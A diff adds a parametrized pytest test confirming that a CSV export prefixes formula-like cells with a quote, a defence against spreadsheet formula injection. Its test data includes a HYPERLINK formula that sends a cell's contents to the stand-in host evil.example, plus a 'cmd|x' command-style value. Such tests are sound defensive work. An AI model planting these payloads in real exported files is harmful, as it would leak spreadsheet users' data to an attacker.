@@ -215,6 +215,21 @@ def test_csv_quotes_commas_quotes_newlines_and_keeps_unicode(clock, wall, deploy
                         "Équipe 目標"]
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(clock, wall, deployment, start):
+    session = Session.start(deployment, MemoryStore(), workshop_ref="deployment-parameters",
+                            team=f"{start}Ops", clock=clock, wall_clock=wall)
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A2,"click")'
+    session.board.save_objective(Objective("o1", formula, level="team"))
+    session.board.save_key_result("o1", KeyResult("kr1", f"{start}2+3", start=-5, target=-1, unit=f"{start}cmd|x",
+                                                  owner=f"{start}SUM(A1)"))
+    row = _rows(to_csv(export_document(session)))[1]
+    text_cells = [row[COLUMNS.index(c)] for c in ("objective", "key_result", "unit", "owner")]
+    assert text_cells == ["'" + formula, f"'{start}2+3", f"'{start}cmd|x", f"'{start}SUM(A1)"]
+    assert not row[COLUMNS.index("team")].startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert (row[COLUMNS.index("from")], row[COLUMNS.index("to")]) == ("-5", "-1"), "numbers stay numbers"
+
+
 def test_a_decision_the_consensus_check_did_not_agree_says_so(document):
     disputed = copy.deepcopy(document)
     disputed["parameters"]["level"]["consensus"]["agreed"] = False
